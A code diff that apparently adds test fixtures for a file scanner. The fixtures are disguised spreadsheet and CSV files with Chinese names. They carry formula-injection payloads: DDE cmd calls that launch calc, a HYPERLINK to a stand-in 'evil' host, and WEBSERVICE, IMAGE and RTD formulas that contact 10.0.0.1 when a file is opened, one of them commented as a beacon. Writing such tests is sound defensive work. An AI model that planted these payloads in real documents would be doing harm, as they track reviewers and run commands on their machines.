@@ -318,6 +318,10 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
         ("得分.csv", b'name,score\n=HYPERLINK("http://x","click"),1\n'),
         ("得分.csv", b"name,score\n@SUM(1+1)*cmd|' /C calc'!A0,1\n"),
         ("得分.csv", b"name,score\nx,-2+3+cmd|' /C calc'!A0\n"),
+        (
+            "得分.csv",
+            b'name,score\r=HYPERLINK("http://evil","click"),1\r',
+        ),  # a lone CR: a row to Excel (a tester's finding)
         ("说明.txt", b"\n".join([b"line %d of a long note" % i for i in range(60000)] + [SCRIPTS["bat"]])),
     ],
     "script containing %PDF-": [
@@ -463,6 +467,22 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
             _rezip(
                 REAL_XLSX,
                 change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>WEBSERVICE("http://10.0.0.1/x")</f></c></row>')},
+            ),
+        ),
+        (  # IMAGE fetches its URL when the file is opened (a beacon: who reviewed it, when, from where)
+            "评分表.xlsx",
+            _rezip(
+                REAL_XLSX,
+                change={
+                    SHEET: _in_sheet('<row r="90"><c r="A90"><f>_xlfn.IMAGE("http://10.0.0.1/t.png")</f></c></row>')
+                },
+            ),
+        ),
+        (  # RTD asks a COM server on the reviewer's machine, or one named on the network
+            "评分表.xlsx",
+            _rezip(
+                REAL_XLSX,
+                change={SHEET: _in_sheet('<row r="90"><c r="A90"><f>RTD("x.server","10.0.0.1","a")</f></c></row>')},
             ),
         ),
         (
